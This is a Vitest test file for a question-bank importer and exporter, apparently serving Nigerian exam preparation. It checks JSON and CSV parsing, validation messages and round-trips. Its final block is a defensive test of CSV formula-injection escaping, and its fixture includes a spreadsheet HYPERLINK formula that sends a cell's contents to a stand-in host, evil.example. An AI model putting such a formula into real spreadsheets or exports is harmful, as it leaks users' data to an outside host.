import { describe, expect, it } from "vitest";
import { BANK_IMPORT_MAX_QUESTIONS } from "../validation/bank";
import type { BankImportResult } from "./import-result";
import { parseBankJson, placeOf } from "./json";
import { parseBankImport } from "./parse";
import { bankCsvFile, bankJsonFile, type ExportedQuestion } from "./serialize";
import { csvField } from "../csv-cell";

const errorsOf = (r: BankImportResult) =>
  r.errors.map((e) => `${e.at}${e.line ? ` (line ${e.line})` : ""}: ${e.message}`);
const question = (extra: Record<string, unknown> = {}) => ({
  text: "What does the writer mean by “a market of voices”?",
  options: ["A noisy place", "A place of many opinions", "A choir", "A radio station"],
  answer: "B",
  explanation: "Paragraph 2 says so.",
  topic: "comprehension",
  difficulty: "medium",
  exams: ["UTME", "WAEC"],
  stimulus: "p1",
  ...extra,
});
const passage = {
  ref: "p1",
  kind: "passage",
  title: "Market day",
  content: "Every Saturday the market fills with voices…",
};
const file = (content: Record<string, unknown>) => JSON.stringify(content, null, 2);

describe("parseBankJson: slugs", () => {
  it("passes a question's and a stimulus's slug on, and the file's subject", () => {
    const r = parseBankJson(
      file({
        subject: "English",
        stimuli: [{ ...passage, slug: "eng-market-day" }],
        questions: [question({ slug: "eng-market-1" }), question({ slug: "eng-market-2", text: "Who wrote it?" })],
      }),
    );
    expect(errorsOf(r)).toEqual([]);
    expect(r.subject).toBe("English");
    expect(r.stimuli[0]!.slug).toBe("eng-market-day");
    expect(r.questions.map((q) => q.slug)).toEqual(["eng-market-1", "eng-market-2"]);
  });

  it("a slug used twice, or not in lower-case words joined by hyphens, names its place", () => {
    const r = parseBankJson(
      file({
        stimuli: [{ ...passage, slug: "eng-1" }],
        questions: [question({ slug: "eng-1" }), question({ slug: "Eng 2" })],
      }),
    );
    expect(r.questions).toEqual([]);
    expect(errorsOf(r)).toEqual([
      'questions[0].slug (line 29): Two entries of the file have the slug "eng-1": each needs its own',
      "questions[1].slug (line 48): slug must be lower-case letters and digits joined by hyphens",
    ]);
  });

  it("options that differ only in case are different options (genotypes, stressed syllables)", () => {
    const r = parseBankJson(
      file({ questions: [question({ options: ["HH", "Hh", "hh", "hH"], answer: "A", stimulus: null })] }),
    );
    expect(errorsOf(r)).toEqual([]);
  });
});

describe("parseBankJson: valid files", () => {
  it("a passage and its questions in one file", () => {
    const r = parseBankJson(
      file({
        subject: "English",
        stimuli: [passage],
        questions: [question(), question({ text: "Who wrote it?", stimulus: undefined })],
      }),
      {},
      "English",
    );
    expect(r.errors).toEqual([]);
    expect(r.stimuli.map(({ locate: _l, ...s }) => s)).toEqual([{ ...passage, image: null }]);
    expect(r.questions.map(({ locate: _l, ...q }) => q)).toEqual([
      {
        text: "What does the writer mean by “a market of voices”?",
        options: ["A noisy place", "A place of many opinions", "A choir", "A radio station"],
        answer: "B",
        answerIndex: 1,
        explanation: "Paragraph 2 says so.",
        topic: "comprehension",
        difficulty: "medium",
        exams: ["UTME", "WAEC"],
        source: "original",
        stimulus: "p1",
        image: null,
        number: 1,
      },
      expect.objectContaining({ text: "Who wrote it?", stimulus: null, number: 2 }),
    ]);
    // Lines of the places the server checks: the 2nd question's topic is on its own line.
    expect(r.questions[1]!.locate("topic")).toEqual({ at: "questions[1].topic", line: 40 });
  });

  it("the defaults fill what a question leaves out", () => {
    const r = parseBankJson(file({ questions: [{ text: "Why so?", options: ["1", "2", "3", "4"], answer: "a" }] }), {
      exams: ["NECO"],
      topic: "t",
      difficulty: "easy",
    });
    expect(r.errors).toEqual([]);
    expect(r.questions[0]).toMatchObject({
      exams: ["NECO"],
      topic: "t",
      difficulty: "easy",
      answer: "A",
      answerIndex: 0,
    });
  });

  it("a source in the style of an exam's paper", () => {
    const r = parseBankJson(file({ questions: [question({ stimulus: null, source: { style: "WAEC", year: 2015 } })] }));
    expect(r.questions[0]!.source).toEqual({ style: "WAEC", year: 2015 });
  });
});

describe("parseBankJson: errors name the question, the field and the line", () => {
  it("each bad field of each question", () => {
    const text = file({
      stimuli: [passage],
      questions: [
        question(),
        question({ options: ["a", "b", "a", "$x^$"], answer: "E", exams: ["JAMB"] }),
        question({ stimulus: "p9", colour: "red" }),
      ],
    });
    expect(errorsOf(parseBankJson(text))).toEqual([
      "questions[1].options[2] (line 34): Options must all be different: option C repeats option A",
      "questions[1].options[3] (line 35): Option D: The notation in this option does not render: KaTeX parse error: Expected group after '^' at position 2: x^",
      "questions[1].exams[0] (line 42): Each exam must be UTME, WAEC or NECO",
      'questions[2] (line 46): Unrecognized key: "colour"',
    ]);
  });

  it("an answer past the options, and a stimulus ref not in the file", () => {
    const text = file({ questions: [question({ answer: "E", stimulus: null }), question({ stimulus: "p2" })] });
    expect(errorsOf(parseBankJson(text))).toEqual([
      "questions[0].answer (line 11): The answer must be one of the options (A to D)",
      'questions[1].stimulus (line 37): No stimulus of this file has the ref "p2"',
    ]);
  });

  it("bad stimuli", () => {
    const text = file({
      stimuli: [
        passage,
        { ...passage, title: "Again" },
        { ref: "d1", kind: "diagram", content: "A circuit" },
        { ref: "x", kind: "poem", content: "" },
      ],
      questions: [question()],
    });
    expect(errorsOf(parseBankJson(text))).toEqual([
      'stimuli[1].ref (line 10): Two stimuli have the ref "p1": each needs its own',
      "stimuli[2].image (line 15): A diagram needs its image: the key of an image you uploaded",
      "stimuli[3].kind (line 22): kind must be passage, table or diagram",
      "stimuli[3].content (line 23): Content cannot be empty",
    ]);
  });

  it.each([
    [
      "not JSON",
      '{\n  "questions": [\n    {"text": "Why?",}\n  ]\n}',
      "line 3 (line 3): This is not valid JSON (line 3, column 21): A comma before } leaves an empty entry: remove the last comma",
    ],
    [
      "a list, not an object",
      "[]",
      'file (line 1): The file must be one JSON object: { "stimuli": [...], "questions": [...] }',
    ],
    ["no questions list", '{"stimuli": []}', 'questions (line 1): The file has no "questions" list'],
    ["an empty questions list", '{"questions": []}', "questions (line 1): The file has no questions"],
    ["questions not a list", '{"questions": {}}', "questions (line 1): questions must be a list"],
    [
      "a question that is not an object",
      '{"questions": ["Why?"]}',
      "questions[0] (line 1): Each question must be an object",
    ],
    [
      "an unknown top-level field",
      '{"question": [], "questions": [1]}',
      'question (line 1): Unknown field "question": the file has subject, stimuli and questions',
    ],
  ])("%s", (_label, text, message) => {
    expect(errorsOf(parseBankJson(text))[0]).toBe(message);
  });

  it("a file for another subject", () => {
    expect(
      errorsOf(parseBankJson(file({ subject: "Physics", questions: [question({ stimulus: null })] }), {}, "English")),
    ).toEqual(['subject (line 2): The file is for "Physics" but the import is for English']);
  });

  it(`more than ${BANK_IMPORT_MAX_QUESTIONS} questions`, () => {
    const questions = Array.from({ length: BANK_IMPORT_MAX_QUESTIONS + 1 }, () => question({ stimulus: null }));
    const r = parseBankJson(JSON.stringify({ questions }));
    expect(errorsOf(r)).toEqual([
      `questions[${BANK_IMPORT_MAX_QUESTIONS}] (line 1): A file can hold at most ${BANK_IMPORT_MAX_QUESTIONS} questions: split the file`,
    ]);
  });

  it("placeOf", () => {
    expect(placeOf(["questions", 3, "options", 1])).toBe("questions[3].options[1]");
    expect(placeOf(["subject"])).toBe("subject");
    expect(placeOf([])).toBe("");
  });
});

// ---- Export files read back as the same questions ------------------------------------------

const exported: ExportedQuestion[] = [
  {
    text: 'He said "yes", then left.\nWhat did he say?',
    options: ["yes", "no, never", "$\\frac{1}{2}$", "maybe"],
    answer: "A",
    explanation: "Line one, with a comma.",
    topic: "comprehension",
    difficulty: "hard",
    exams: ["UTME", "NECO"],
    source: { style: "WAEC", year: 2019 },
    stimulus: "s1",
    image: null,
  },
  {
    text: "Five options?",
    options: ["1", "2", "3", "4", "5"],
    answer: "E",
    explanation: "",
    topic: null,
    difficulty: "easy",
    exams: ["WAEC"],
    source: "original",
    stimulus: null,
    image: "bank/t1/abc.png",
  },
];
const strip = (r: BankImportResult) => r.questions.map(({ locate: _l, answerIndex: _a, number: _n, ...q }) => q);

describe("export → import", () => {
  it("JSON reads back as the same questions and stimuli", () => {
    const stimuli = [{ ref: "s1", kind: "passage", title: "T", content: "Once upon a time.", image: null }];
    const r = parseBankImport("json", bankJsonFile("English", stimuli, exported), {}, "English");
    expect(r.errors).toEqual([]);
    expect(strip(r)).toEqual(exported);
    expect(r.stimuli.map(({ locate: _l, ...s }) => s)).toEqual(stimuli);
  });

  it("CSV reads back as the same questions, without their stimulus", () => {
    const r = parseBankImport("csv", bankCsvFile(exported));
    expect(r.errors).toEqual([]);
    expect(strip(r)).toEqual(exported.map((q) => ({ ...q, stimulus: null })));
  });

  it("csvField quotes only what needs it", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField("a, b")).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
  });
});

describe("CSV export of cells a spreadsheet would run", () => {
  const formulaLike: ExportedQuestion = {
    text: '=HYPERLINK("http://evil.example/steal?q="&A1,"Click for the answer")',
    options: ["+1+1", "-2", "@SUM(1)", "'=1"],
    answer: "B",
    explanation: "-2 because 3 - 5 = -2",
    topic: null,
    difficulty: "easy",
    exams: ["WAEC"],
    source: "original",
    stimulus: null,
    image: null,
  };

  it("writes each with an apostrophe inside quotes, so no cell starts with a formula character", () => {
    const file = bankCsvFile([formulaLike]);
    const row = file.split("\r\n")[1]!;
    expect(
      row.startsWith(
        `"'=HYPERLINK(""http://evil.example/steal?q=""&A1,""Click for the answer"")","'+1+1","'-2","'@SUM(1)","''=1",`,
      ),
    ).toBe(true);
    expect(row).toContain(`"'-2 because 3 - 5 = -2"`);
  });

  it("imports back exactly, the apostrophes taken off", () => {
    const r = parseBankImport("csv", bankCsvFile([formulaLike]));
    expect(r.errors).toEqual([]);
    expect(strip(r)).toEqual([formulaLike]);
  });
});
